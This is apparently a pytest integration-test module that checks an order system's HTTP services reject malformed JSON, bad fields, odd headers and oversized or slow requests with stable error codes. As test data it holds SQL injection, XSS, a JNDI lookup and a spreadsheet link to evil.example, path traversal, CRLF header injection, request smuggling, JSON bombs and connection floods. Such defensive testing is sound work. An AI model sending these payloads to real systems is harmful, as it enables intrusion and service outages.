"""Whatever is sent to the doors of the running services: the answer that faults.md promises, and never a bare 5xx."""

import asyncio
import json
import time
import uuid
from collections.abc import AsyncIterator, Callable
from typing import Any
from urllib.parse import urlsplit

import httpx
import psutil  # type: ignore[import-untyped]
import pytest

from libs.testing.outside import SERVICES, Outside, outside
from oms.cluster.cluster import LocalCluster

pytestmark = pytest.mark.integration

LIMIT = 256 * 1024
CARDS = ("4111111111111111", "5500-0000-0000-0004", "3400 0000 0000 009")


@pytest.fixture(scope="module")
async def doors(system: LocalCluster) -> AsyncIterator[Outside]:
    async with outside(system, system.directory.callback_secret().read_text().strip()) as opened:
        await opened.stock("SKU-HTTP", qty=100_000)
        yield opened


def body_of(doors: Outside, **changes: Any) -> dict[str, Any]:
    """A good order as JSON, with values changed by their path: `lines__0__qty=3`, `status="PAID"`."""
    body: dict[str, Any] = doors.order("SKU-HTTP").model_dump(mode="json")
    for path, value in changes.items():
        *parents, last = [int(part) if part.isdigit() else part for part in path.split("__")]
        place: Any = body
        for part in parents:
            place = place[part]
        place[last] = value
    return body


async def raw_post(doors: Outside, content: bytes, **headers: str) -> httpx.Response:
    sent = {"content-type": "application/json", "idempotency-key": str(uuid.uuid4())}
    return await doors.doors["order"].post("/orders", content=content, headers={**sent, **headers})


async def stored_of(doors: Outside, body: dict[str, Any]) -> int:
    answer = await doors.get("order", "/orders", channel=body["channel"], external_order_id=body["external_order_id"])
    return len(answer.json()["items"])


# --- bodies that are no JSON, or more than JSON ----------------------------------------------------------------------

PLAIN = '{"channel":"web","external_order_id":"W-1","currency":"EUR","placed_at":"2026-01-05T10:00:00Z"'

BODIES: dict[str, tuple[bytes, int, str]] = {
    "empty": (b"", 422, "field_missing"),
    "nothing but space": (b"  ", 400, "json_invalid"),
    "null": (b"null", 422, "type_invalid"),
    "a list": (b"[]", 422, "type_invalid"),
    "a text": (b'"order"', 422, "type_invalid"),
    "not JSON": (b"order please", 400, "json_invalid"),
    "truncated": (PLAIN.encode(), 400, "json_invalid"),
    "trailing garbage": (b"{} {}", 400, "json_invalid"),
    "depth 100,000": (b"[" * 100_000, 400, "json_invalid"),
    "depth 33 of objects": (b'{"a":' * 33 + b"1" + b"}" * 33, 400, "json_invalid"),
    "5,000 digits": (b'{"qty":' + b"9" * 5_000 + b"}", 422, "number_out_of_range"),
    "1e400": (b'{"qty":1e400}', 422, "number_out_of_range"),
    "NaN": (b'{"qty":NaN}', 400, "json_invalid"),
    "Infinity": (b'{"qty":Infinity}', 400, "json_invalid"),
    "-Infinity": (b'{"qty":-Infinity}', 400, "json_invalid"),
    "duplicate key": (b'{"qty":1,"qty":-5}', 400, "duplicate_key"),
    "duplicate key, deep": (b'{"lines":[{"qty":1,"qty":-5}]}', 400, "duplicate_key"),
    "NUL escaped": (b'{"channel":"a\\u0000b"}', 422, "text_invalid"),
    "NUL in a key": (b'{"a\\u0000b":1}', 422, "text_invalid"),
    "NUL raw": (b'{"channel":"a\x00b"}', 400, "json_invalid"),
    "lone surrogate": (b'{"channel":"\\ud800"}', 422, "text_invalid"),
    "lone low surrogate": (b'{"channel":"\\uDC00"}', 422, "text_invalid"),
    "invalid UTF-8": (b'{"channel":"\xff\xfe"}', 400, "json_invalid"),
    "BOM": (b"\xef\xbb\xbf{}", 400, "json_invalid"),
    "UTF-16": ('{"channel":"web"}'.encode("utf-16"), 400, "json_invalid"),
    "UTF-16 without BOM": ('{"channel":"web"}'.encode("utf-16-le"), 400, "json_invalid"),
}


@pytest.mark.parametrize("name", BODIES)
async def test_malformed_body_is_refused_with_a_stable_code(doors: Outside, name: str) -> None:
    content, status, code = BODIES[name]
    answer = await raw_post(doors, content)
    assert (answer.status_code, answer.json()["code"]) == (status, code), answer.text


# --- bodies that are JSON, but no order ------------------------------------------------------------------------------

FIELDS: dict[str, tuple[dict[str, Any], str]] = {
    "quantity as text": ({"lines__0__qty": "3"}, "type_invalid"),
    "quantity as float": ({"lines__0__qty": 3.0}, "type_invalid"),
    "quantity as bool": ({"lines__0__qty": True}, "type_invalid"),
    "quantity with underscore": ({"lines__0__qty": "1_000"}, "type_invalid"),
    "quantity in Arabic digits": ({"lines__0__qty": "\u0663"}, "type_invalid"),
    "quantity null": ({"lines__0__qty": None}, "type_invalid"),
    "quantity 0": ({"lines__0__qty": 0}, "number_out_of_range"),
    "quantity -1": ({"lines__0__qty": -1}, "number_out_of_range"),
    "quantity 10^9": ({"lines__0__qty": 10**9}, "number_out_of_range"),
    "quantity 10^400": ({"lines__0__qty": 10**400}, "number_out_of_range"),
    "mass assignment": ({"status": "PAID"}, "unknown_field"),
    "other tenant": ({"tenant_id": "other"}, "unknown_field"),
    "unknown field in a line": ({"lines__0__price": 1}, "unknown_field"),
    "no lines": ({"lines": []}, "too_few_items"),
    "amount 0.1 + 0.2": ({"lines__0__amount": 0.1 + 0.2}, "type_invalid"),
    "three decimals": ({"totals__grand": 19.999}, "type_invalid"),
    "JPY with decimals": ({"currency": "JPY", "totals__grand": 100.5}, "type_invalid"),
    "money as text": ({"lines__0__amount": "19.99"}, "type_invalid"),
    "negative money": ({"lines__0__amount": -1}, "number_out_of_range"),
    "money 2^63": ({"totals__grand": 2**63}, "number_out_of_range"),
    "total is not the sum": ({"totals__grand": 1}, "totals_mismatch"),
    "discount beyond the line": ({"lines__0__discount": 10**6, "totals__discount": 10**6}, "totals_mismatch"),
    "unknown currency": ({"currency": "EUX"}, "unknown_currency"),
    "currency in small letters": ({"currency": "eur"}, "value_invalid"),
    "year 1": ({"placed_at": "0001-01-01T00:00:00Z"}, "value_invalid"),
    "year 9999": ({"placed_at": "9999-12-31T23:59:59Z"}, "value_invalid"),
    "infinity": ({"placed_at": "infinity"}, "value_invalid"),
    "no offset": ({"placed_at": "2026-01-05T10:00:00"}, "value_invalid"),
    "leap second": ({"placed_at": "2026-06-30T23:59:60Z"}, "value_invalid"),
    "31 February": ({"placed_at": "2026-02-31T10:00:00Z"}, "value_invalid"),
    "a number for a date": ({"placed_at": 1767607200}, "value_invalid"),
    "a day for a moment": ({"placed_at": "2026-01-05"}, "value_invalid"),
    "SKU beyond ASCII": ({"lines__0__sku": "SKU-\u00fc"}, "value_invalid"),
    "SKU with newline": ({"lines__0__sku": "SKU-1\n"}, "value_invalid"),
    "SKU of 129 characters": ({"lines__0__sku": "S" * 129}, "value_invalid"),
    "homoglyph channel": ({"channel": "w\u0435b"}, "value_invalid"),
    "empty external id": ({"external_order_id": ""}, "value_invalid"),
    "path in external id": ({"external_order_id": "../../etc/passwd"}, "value_invalid"),
    "text of 1,025 characters": ({"pii__customer_id": "x" * 1025}, "value_invalid"),
    "10,000 combining marks": ({"pii__customer_id": "a" + "\u0301" * 10_000}, "value_invalid"),
    "NFD twin": ({"pii__customer_id": "Mu\u0308ller"}, "text_invalid"),
    "bidi override": ({"pii__customer_id": "abc\u202etxt.exe"}, "text_invalid"),
    "zero-width space": ({"pii__customer_id": "ab\u200bc"}, "text_invalid"),
    "ANSI escape": ({"pii__customer_id": "\x1b[31mred"}, "text_invalid"),
    "CRLF": ({"pii__customer_id": "a\r\nSet-Cookie: b"}, "text_invalid"),
    "latitude beyond the pole": ({"destination__lat": 91.0}, "number_out_of_range"),
    "country as text": ({"destination__country": "Germany"}, "value_invalid"),
    "policy not built yet": ({"policies": {"stock": "ALLOW_PARTIAL"}}, "UNSUPPORTED"),
    "no token": ({"payment__token": ""}, "token_missing"),
}


@pytest.mark.parametrize("name", FIELDS)
async def test_order_with_a_wrong_field_is_refused_and_nothing_is_stored(doors: Outside, name: str) -> None:
    changes, code = FIELDS[name]
    body = body_of(doors, **changes)
    answer = await doors.post("order", "/orders", body)
    problem = answer.json()
    assert answer.status_code == 422, answer.text
    assert code in {problem["code"], *(fault["code"] for fault in problem.get("errors", ()))}, problem
    if code not in ("unknown_field", "value_invalid") and not name.startswith("quantity 10^400"):
        assert await stored_of(doors, body) == 0


async def test_too_many_lines_are_refused(doors: Outside) -> None:
    line = body_of(doors)["lines"][0]
    body = body_of(doors, lines=[{**line, "line_id": str(n)} for n in range(501)])
    answer = await doors.post("order", "/orders", body)
    assert (answer.status_code, answer.json()["code"]) == (422, "too_many_items")


async def test_same_sku_in_two_lines_is_two_lines_and_same_line_twice_is_refused(doors: Outside) -> None:
    line = body_of(doors)["lines"][0]
    totals = {"totals__items": 2 * line["amount"], "totals__grand": 2 * line["amount"] + 495}
    twice = body_of(doors, lines=[line, line], **totals)
    refused = await doors.post("order", "/orders", twice)
    assert (refused.status_code, refused.json()["code"]) == (422, "duplicate_line")
    taken = await doors.post("order", "/orders", {**twice, "lines": [line, {**line, "line_id": "2"}]})
    assert taken.status_code == 201, taken.text


async def test_many_faults_are_answered_in_few_words_that_repeat_nothing(doors: Outside) -> None:
    strange = {f"<script>{n}": 0 for n in range(5_000)}
    answer = await doors.post("order", "/orders", {**body_of(doors), **strange, "4111111111111111": 1})
    assert answer.status_code == 422
    assert len(answer.json()["errors"]) == 50
    assert len(answer.content) < 10_000
    assert "script" not in answer.text
    assert "4111" not in answer.text


@pytest.mark.parametrize("card", CARDS)
@pytest.mark.parametrize(
    "field",
    ["pii__customer_id", "pii__email", "pii__ship_to__street", "destination__postal_code", "payment__token"],
)
async def test_card_number_in_a_text_is_refused(doors: Outside, field: str, card: str) -> None:
    if field == "destination__postal_code" and len(card) > 16:
        card = card.replace(" ", "").replace("-", "")
    body = body_of(doors, **({field: card} if "ship_to" not in field else {"pii__ship_to": {"street": f"At {card}"}}))
    answer = await doors.post("order", "/orders", body)
    assert (answer.status_code, answer.json()["code"]) == (422, "pan_detected")
    assert card not in answer.text


TEXTS: dict[str, Callable[[str], tuple[str, str, dict[str, Any]]]] = {
    "location's name": lambda text: (
        "inventory",
        "/locations",
        {"location": "X", "name": text, "country": "DE", "lat": 1.0, "lon": 1.0},
    ),
    "reason of an adjustment": lambda text: (
        "inventory",
        "/stock/adjustments",
        {"sku": "S", "location": "X", "delta": 1, "by": "me", "reason": text},
    ),
    "reason of a settlement": lambda text: (
        "payment",
        "/payments/p/settlements",
        {"idempotency_key": "k", "outcome": "FAILED", "by": "me", "reason": text},
    ),
    "reason of a cancellation": lambda text: (
        "order",
        "/cancellations",
        {"channel": "c", "external_order_id": uuid.uuid4().hex, "reason": text},
    ),
}


@pytest.mark.parametrize("where", TEXTS)
@pytest.mark.parametrize(
    ("text", "code"), [(CARDS[0], "pan_detected"), ("a\x00b", "text_invalid"), ("a\u202eb", "text_invalid")]
)
async def test_text_of_an_operator_is_held_to_the_same_rules(doors: Outside, where: str, text: str, code: str) -> None:
    answer = await doors.post(*TEXTS[where](text))
    assert (answer.status_code, answer.json()["code"]) == (422, code), answer.text


DATA = (
    "'; DROP TABLE events; --",
    "<script>alert(1)</script>",
    '=HYPERLINK("http://evil.example","x")',
    "${jndi:ldap://evil.example/a}",
    "{{7*7}} %s %n",
    "Zoe\u0308".replace("e\u0308", "\u00eb") + " \U0001f600",
)


@pytest.mark.parametrize("text", DATA)
async def test_text_that_is_code_elsewhere_is_stored_as_data(doors: Outside, text: str) -> None:
    location = f"odd-{uuid.uuid4().hex[:8]}"
    body = {"location": location, "name": text, "country": "DE", "lat": 1.0, "lon": 1.0}
    assert (await doors.post("inventory", "/locations", body)).status_code == 201
    shown = "SELECT convert_from(data, 'UTF8')::jsonb->>'name' AS name FROM view_locations WHERE key = $1"
    rows = await doors.sql("inventory", shown, location)
    assert [row["name"] for row in rows] == [text]


# --- idempotency and versions ----------------------------------------------------------------------------------------


async def test_same_request_a_hundred_times_at_once_has_one_effect_and_one_answer(doors: Outside) -> None:
    body, key = body_of(doors), str(uuid.uuid4())
    answers = await asyncio.gather(*(doors.post("order", "/orders", body, key) for _ in range(100)))
    assert {answer.status_code for answer in answers} == {201}
    assert len({answer.content for answer in answers}) == 1
    order_id = answers[0].json()["stream_id"].removeprefix("order-")
    assert (await doors.events("order", order_id)).count("OrderReceived") == 1


async def test_same_key_with_another_body_or_path_is_refused(doors: Outside) -> None:
    body, key = body_of(doors), str(uuid.uuid4())
    assert (await doors.post("order", "/orders", body, key)).status_code == 201
    other = body_of(doors)
    for path, sent in (("/orders", other), ("/cancellations", {"channel": "c", "external_order_id": "e"})):
        answer = await doors.post("order", path, sent, key)
        assert (answer.status_code, answer.json()["code"]) == (422, "idempotency_mismatch")
    assert await stored_of(doors, other) == 0


async def test_write_without_a_key_is_refused(doors: Outside) -> None:
    answer = await doors.doors["order"].post("/orders", json=body_of(doors))
    assert (answer.status_code, answer.json()["code"]) == (400, "idempotency_key_missing")


@pytest.mark.parametrize("key", ["", "a b", "caf\u00e9", "\U0001f600", "k" * 129, "k" * 10_240, "a/b", "a\tb"])
async def test_odd_key_is_refused(doors: Outside, key: str) -> None:
    headers = {b"idempotency-key": key.encode()}
    answer = await doors.doors["order"].post("/orders", json=body_of(doors), headers=headers)
    assert (answer.status_code, answer.json()["code"]) == (400, "idempotency_key_invalid")


async def test_stale_version_is_refused_with_the_current_one(doors: Outside) -> None:
    placed = (await doors.post("order", "/orders", body_of(doors))).json()
    path = f"/orders/{placed['stream_id'].removeprefix('order-')}/resolution"
    body = {"resolution": "RELEASE_HOLD", "by": "me", "reason": "because"}
    stale = await doors.post("order", path, body, if_match='"1"')
    assert (stale.status_code, stale.json()["code"]) == (412, "stale_version")
    assert stale.json()["current_version"] >= placed["stream_version"]


@pytest.mark.parametrize("tag", ['"x"', "*", '"-1"', '"99999999999"', '"\u0663"'])
async def test_odd_if_match_is_refused(doors: Outside, tag: str) -> None:
    headers = {b"if-match": tag.encode(), b"idempotency-key": b"odd-tag"}
    answer = await doors.doors["order"].post("/orders", json=body_of(doors), headers=headers)
    assert (answer.status_code, answer.json()["code"]) == (400, "if_match_invalid")


async def test_command_that_does_not_fit_the_state_is_refused_with_the_current_version(doors: Outside) -> None:
    placed = (await doors.post("order", "/orders", body_of(doors))).json()
    path = f"/orders/{placed['stream_id'].removeprefix('order-')}"
    by = {"by": "me", "reason": "because"}
    for door, body, code in (
        ("refunds", {"refund_id": "r1", "amount": 10**9, **by}, "refund_exceeds_captured"),
        ("resolution", {"resolution": "RELEASE_HOLD", **by}, "no_open_hold"),
        ("payment-method", {"token": "tok_other"}, "payment_method_not_awaited"),
    ):
        answer = await doors.post("order", f"{path}/{door}", body)
        assert (answer.status_code, answer.json()["code"]) == (409, code)
        assert answer.json()["current_version"] >= 1


async def test_completed_order_is_neither_cancelled_nor_refunded_beyond_what_was_paid(doors: Outside) -> None:
    placed = await doors.place(doors.order("SKU-HTTP"))
    await doors.tracked(placed.order_id, "COMPLETED")
    version = (await doors.sql("order", VERSION, f"order-{placed.order_id}"))[0]["stream_version"]
    by = {"by": "me", "reason": "because"}
    reference = {"channel": placed.channel, "external_order_id": placed.external_order_id, "reason": "CUSTOMER"}
    for path, body, code in (
        (f"/orders/{placed.order_id}/cancellation", {}, "order_released"),
        ("/cancellations", reference, "order_released"),
        (f"/orders/{placed.order_id}/refunds", {"refund_id": "r", "amount": 10**6, **by}, "refund_exceeds_captured"),
        (f"/orders/{placed.order_id}/payment-method", {"token": "tok_other"}, "payment_method_not_awaited"),
    ):
        answer = await doors.post("order", path, body)
        assert (answer.status_code, answer.json()["code"]) == (409, code), answer.text
        assert answer.json()["current_version"] >= version


VERSION = "SELECT stream_version FROM stream_head WHERE stream_id = $1"


async def test_other_order_under_a_known_external_id_is_refused_with_the_current_version(doors: Outside) -> None:
    body = body_of(doors)
    assert (await doors.post("order", "/orders", body)).status_code == 201
    answer = await doors.post("order", "/orders", {**body, "pii": {"customer_id": "another"}})
    assert (answer.status_code, answer.json()["code"]) == (409, "order_exists"), answer.text
    assert answer.json()["current_version"] >= 1


@pytest.mark.parametrize(("zero", "code"), [(b"-0", "number_out_of_range"), (b"-0.0", "type_invalid")])
async def test_minus_zero_is_no_quantity(doors: Outside, zero: bytes, code: str) -> None:
    content = json.dumps(body_of(doors, lines__0__qty=7)).encode().replace(b'"qty": 7', b'"qty": ' + zero)
    answer = await raw_post(doors, content)
    assert answer.status_code == 422
    assert code in {fault["code"] for fault in answer.json()["errors"] if fault["field"].endswith("qty")}, answer.text


# --- reading ---------------------------------------------------------------------------------------------------------

ROWS = {
    "order": ("/orders/{}",),
    "inventory": ("/availability/{}", "/reservations/{}"),
    "payment": ("/payments/{}",),
    "fulfillment": ("/releases/{}", "/shipments/{}"),
    "tracking": ("/orders/{}", "/orders/{}/timeline", "/orders/by-reference/web/{}"),
}
ROW_PATHS = [(service, path) for service, paths in ROWS.items() for path in paths]


@pytest.mark.parametrize(("service", "path"), ROW_PATHS)
async def test_unknown_id_is_not_found_and_malformed_id_is_refused(doors: Outside, service: str, path: str) -> None:
    unknown = await doors.get(service, path.format(uuid.uuid4()))
    assert (unknown.status_code, unknown.json()["code"]) == (404, "not_found")
    for id_ in ("a%20b", "%00", "%F0%9F%98%80", "%27%20OR%201=1--", "x" * 129, "%0a", "%ff"):
        malformed = await doors.get(service, path.format(id_))
        assert malformed.status_code == 422, f"{id_}: {malformed.text}"


LISTS = {
    "order": ("/orders",),
    "inventory": ("/locations", "/reservations"),
    "payment": ("/payments",),
    "fulfillment": ("/releases", "/shipments"),
    "tracking": ("/orders", "/exceptions"),
}
LIST_PATHS = [(service, path) for service, paths in LISTS.items() for path in paths]
QUERIES: dict[str, tuple[str, str]] = {
    "limit of 10^9": ("limit=1000000000", "number_out_of_range"),
    "limit of 10^400": (f"limit=1{'0' * 400}", "number_out_of_range"),
    "limit 0": ("limit=0", "number_out_of_range"),
    "limit -1": ("limit=-1", "number_out_of_range"),
    "limit as text": ("limit=all", "value_invalid"),
    "cursor made up": ("cursor=AAAA", "cursor_invalid"),
    "cursor not base64": ("cursor=%00%ff", "cursor_invalid"),
    "cursor beyond ASCII": ("cursor=%F0%9F%98%80", "cursor_invalid"),
    "sorted by an unknown field": ("sort=password", "unknown_parameter"),
    "wildcard search": ("q=%25%25%25", "unknown_parameter"),
    "token made up": ("min_version=order-1", "min_version_invalid"),
    "status made up": ("status=PAID%27--", "value_invalid"),
}


@pytest.mark.parametrize(("service", "path"), LIST_PATHS)
async def test_odd_query_is_refused(doors: Outside, service: str, path: str) -> None:
    for name, (query, code) in QUERIES.items():
        answer = await doors.doors[service].get(f"{path}?{query}")
        expected = "unknown_parameter" if path == "/exceptions" and query.startswith("status") else code
        assert (answer.status_code, answer.json()["code"]) == (422, expected), f"{name}: {answer.text}"


async def test_cursor_is_good_for_the_next_page_of_the_same_list_only(doors: Outside) -> None:
    for _ in range(3):
        assert (await doors.post("order", "/orders", body_of(doors))).status_code == 201
    first = (await doors.get("order", "/orders", channel=doors.channel, limit=1)).json()
    cursor = first["next_cursor"]
    second = await doors.get("order", "/orders", channel=doors.channel, limit=1, cursor=cursor)
    assert second.json()["items"][0]["order_id"] > first["items"][0]["order_id"]
    tampered = cursor[:-4] + ("AAAA" if not cursor.endswith("AAAA") else "BBBB")
    for query in ({"channel": doors.channel, "cursor": tampered}, {"channel": "other", "cursor": cursor}):
        answer = await doors.get("order", "/orders", **query)
        assert (answer.status_code, answer.json()["code"]) == (422, "cursor_invalid")


async def test_version_that_never_comes_is_answered_in_bounded_time(doors: Outside) -> None:
    began = time.monotonic()
    answer = await doors.get("order", f"/orders/{uuid.uuid4()}", min_version="order-x@1")
    assert (answer.status_code, answer.json()["code"]) == (504, "not_visible_yet")
    assert time.monotonic() - began < 10


# --- the protocol ----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "media_type",
    ["application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "text/plain", "application/xml", ""],
)
async def test_other_media_type_is_refused(doors: Outside, media_type: str) -> None:
    answer = await raw_post(doors, json.dumps(body_of(doors)).encode(), **{"content-type": media_type})
    assert (answer.status_code, answer.json()["code"]) == (415, "media_type_unsupported")


async def test_body_over_the_limit_is_refused_and_one_at_the_limit_is_read(doors: Outside) -> None:
    order = json.dumps(body_of(doors)).encode()
    assert (await raw_post(doors, order + b" " * (LIMIT - len(order)))).status_code == 201
    answer = await raw_post(doors, order + b" " * (LIMIT + 1 - len(order)))
    assert (answer.status_code, answer.json()["code"]) == (413, "body_too_large")


async def spoken(doors: Outside, *sent: bytes, seconds: float = 20, pause: float = 0.0) -> bytes:
    """What the order service answers on a raw connection until it closes it."""
    url = urlsplit(doors.cluster.url("order"))
    reader, writer = await asyncio.open_connection(url.hostname, url.port)
    try:
        for part in sent:
            writer.write(part)
            await writer.drain()
            if pause:
                await asyncio.sleep(pause)
        async with asyncio.timeout(seconds):
            return await reader.read()
    finally:
        writer.close()


def head(*lines: str, method: str = "POST", path: str = "/orders") -> bytes:
    fixed = (f"{method} {path} HTTP/1.1", "host: test", "content-type: application/json", "idempotency-key: raw")
    return "\r\n".join((*fixed, *lines, "", "")).encode()


async def test_body_announced_over_the_limit_is_refused_before_it_is_sent(doors: Outside) -> None:
    answer = await spoken(doors, head("content-length: 10000000000"), seconds=5)
    assert answer.startswith(b"HTTP/1.1 413 ")
    assert b"connection: close" in answer.lower()


async def test_chunked_body_just_over_the_limit_is_refused(doors: Outside) -> None:
    chunk = b"10000\r\n" + b" " * 0x10000 + b"\r\n"
    answer = await spoken(doors, head("transfer-encoding: chunked"), *([chunk] * 5))
    assert answer.startswith(b"HTTP/1.1 413 ")
    assert b"connection: close" in answer.lower()


async def test_chunked_body_over_the_limit_is_cut_off_and_memory_stays_flat(
    doors: Outside, system: LocalCluster
) -> None:
    process = psutil.Process(system.supervisor.child("order").pid)
    before = process.memory_info().rss

    async def flood() -> tuple[int, bytes]:
        url = urlsplit(system.url("order"))
        reader, writer = await asyncio.open_connection(url.hostname, url.port)
        writer.write(head("transfer-encoding: chunked"))
        chunk, sent = b"10000\r\n" + b" " * 0x10000 + b"\r\n", 0
        answer = asyncio.create_task(reader.read())
        try:
            while not answer.done() and sent < 200 * 2**20:
                writer.write(chunk)
                await writer.drain()
                sent += len(chunk)
        except ConnectionError:
            pass
        try:
            return sent, await answer
        except ConnectionError:
            return sent, b""  # it was reset while we were still sending
        finally:
            writer.close()

    floods = await asyncio.gather(*(flood() for _ in range(20)))
    assert max(sent for sent, _ in floods) < 20 * 2**20  # what the kernel's buffers swallow, no more
    assert all(answer.startswith(b"HTTP/1.1 413 ") or not answer for _, answer in floods)
    assert process.memory_info().rss - before < 50 * 2**20


async def test_whoever_is_slow_is_let_go_in_time(doors: Outside) -> None:
    drip = [bytes([byte]) for byte in b'{"channel":"web"}']
    slow_body, no_body, slow_head, silent = await asyncio.gather(
        spoken(doors, head("content-length: 1000"), *drip, pause=0.5),
        spoken(doors, head("content-length: 1000"), b"{}"),
        spoken(doors, b"POST /orders HTTP/1.1\r\n", b"host: test\r\n", b"x: y\r\n", pause=0.5),
        spoken(doors),
    )
    assert slow_body.startswith(b"HTTP/1.1 408 ")
    assert b"body_timeout" in slow_body
    assert no_body.startswith(b"HTTP/1.1 408 ")
    assert slow_head.startswith(b"HTTP/1.1 408 ")
    assert silent.startswith(b"HTTP/1.1 408 ")


async def test_body_longer_than_it_says_is_no_second_request_of_ours(doors: Outside) -> None:
    answer = await spoken(doors, head("content-length: 2"), b'{} {"smuggled": true}\r\n\r\n', seconds=5)
    assert answer.startswith(b"HTTP/1.1 422 ")
    assert b"HTTP/1.1 400 " in answer


LINES: dict[str, tuple[bytes, tuple[bytes, ...]]] = {
    "path without a slash": (b"GET @evil.example HTTP/1.1\r\nhost: t\r\nconnection: close\r\n\r\n", (b"400", b"404")),
    "absolute path": (b"GET http://evil.example/ HTTP/1.1\r\nhost: t\r\nconnection: close\r\n\r\n", (b"400", b"404")),
    "dots": (b"GET /orders/../../etc/passwd HTTP/1.1\r\nhost: t\r\nconnection: close\r\n\r\n", (b"404",)),
    "two slashes": (b"GET //evil.example/ HTTP/1.1\r\nhost: t\r\nconnection: close\r\n\r\n", (b"404",)),
    "NUL in the path": (b"GET /orders/%00 HTTP/1.1\r\nhost: t\r\nconnection: close\r\n\r\n", (b"422",)),
    "no host": (b"GET /orders HTTP/1.1\r\nconnection: close\r\n\r\n", (b"400",)),
    "two hosts": (b"GET /orders HTTP/1.1\r\nhost: a\r\nhost: b\r\n\r\n", (b"400",)),
    "odd host": (b"GET /livez HTTP/1.1\r\nhost: a@b:99999/?#\r\nconnection: close\r\n\r\n", (b"200", b"400")),
    "10,000 headers": (b"GET /livez HTTP/1.1\r\nhost: t\r\n" + b"x-a: b\r\n" * 10_000 + b"\r\n", (b"400", b"431")),
    "a long header": (b"GET /livez HTTP/1.1\r\nhost: t\r\nx: " + b"y" * 100_000 + b"\r\n\r\n", (b"400", b"431")),
    "newline in the key": (
        b"POST /orders HTTP/1.1\r\nhost: t\r\nidempotency-key: a\nb\r\ncontent-length: 0\r\n\r\n",
        (b"400",),
    ),
    "NUL in the key": (
        b"POST /orders HTTP/1.1\r\nhost: t\r\nidempotency-key: a\0b\r\ncontent-length: 0\r\n\r\n",
        (b"400",),
    ),
    "two lengths": (head("content-length: 2", "content-length: 3") + b"{}", (b"400",)),
    "length and chunks": (head("content-length: 2", "transfer-encoding: chunked") + b"0\r\n\r\n", (b"400", b"422")),
    "no HTTP at all": (b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\r\n\r\n", (b"400",)),
    "unknown method": (b"BREW /orders HTTP/1.1\r\nhost: t\r\nconnection: close\r\n\r\n", (b"405",)),
    "known path, other method": (b"DELETE /orders HTTP/1.1\r\nhost: t\r\nconnection: close\r\n\r\n", (b"405",)),
}


@pytest.mark.parametrize("name", LINES)
async def test_odd_request_line_or_header_is_refused(doors: Outside, name: str) -> None:
    sent, statuses = LINES[name]
    if b"connection: close" not in sent:
        sent = sent.replace(b"\r\n", b"\r\nconnection: close\r\n", 1)
    answer = await spoken(doors, sent, seconds=15)
    assert answer.split(b" ", 2)[1] in statuses, answer[:200]


async def test_other_method_is_refused_with_those_that_there_are(doors: Outside) -> None:
    for path, allowed in (("/orders", "GET, POST"), ("/cancellations", "POST"), (f"/orders/{uuid.uuid4()}", "GET")):
        answer = await doors.doors["order"].delete(path)
        assert (answer.status_code, answer.json()["code"]) == (405, "method_not_allowed")
        assert answer.headers["allow"] == allowed


async def test_costly_bodies_do_not_hold_up_other_callers(doors: Outside) -> None:
    """The median of the others: a single sample on a shared machine says nothing."""
    bombs = (b"[" * LIMIT, b"[" + b"0," * (LIMIT // 2 - 2) + b"0]", b'{"a":"' + b"[" * (LIMIT - 9) + b'"}')

    async def beat() -> float:
        began = time.monotonic()
        assert (await doors.doors["order"].get("/orders?limit=1")).status_code == 200
        return time.monotonic() - began

    async def bomb() -> None:
        for content in bombs * 2:
            assert (await raw_post(doors, content)).status_code in (400, 422)

    attack = asyncio.create_task(bomb())
    beats = [await beat()]
    while not attack.done():
        beats.append(await beat())
    await attack
    assert sorted(beats)[len(beats) // 2] < 0.5, beats


# --- the contract ----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("service", SERVICES)
async def test_every_operation_documents_its_problems(doors: Outside, service: str) -> None:
    async with httpx.AsyncClient(base_url=doors.cluster.url(service), trust_env=False) as plain:
        openapi = (await plain.get("/openapi.json")).json()
        docs = await plain.get("/docs")
    assert docs.status_code == 200
    assert "/openapi.json" in docs.text
    for path, operations in openapi["paths"].items():
        for method, operation in operations.items():
            told = operation["responses"].keys()
            assert {"422", "503"} <= told, f"{method} {path}"
            if "{" in path and method == "get":
                assert "404" in told, f"{method} {path}"
            if method == "post":
                assert {"400", "408", "413", "415"} <= told, f"{method} {path}"
                assert ("401" if "/callbacks/" in path else "409") in told, f"{method} {path}"
            assert operation.get("summary"), f"{method} {path}"


async def test_card_numbers_and_bodies_are_in_no_log_and_no_database(
    doors: Outside, system: LocalCluster, canary: str
) -> None:
    for field in ("pii__customer_id", "payment__token"):
        await doors.post("order", "/orders", body_of(doors, **{field: f"{canary} {CARDS[0]}"}))
    await raw_post(doors, f'{{"channel":"{canary}","channel":1}}'.encode())
    await doors.post("order", "/orders", body_of(doors, **{canary: 1}))
    logs = "".join(path.read_text(errors="replace") for path in system.directory.logs.glob("*.log"))
    assert canary not in logs
    assert not any(card in logs for card in CARDS)
    found = await doors.sql(
        "order",
        "SELECT key FROM idempotency WHERE convert_from(answer, 'UTF8') ~ $1 UNION ALL"
        " SELECT stream_id FROM events WHERE convert_from(data, 'UTF8') ~ $1",
        f"{canary}|{'|'.join(CARDS)}",
    )
    assert found == []
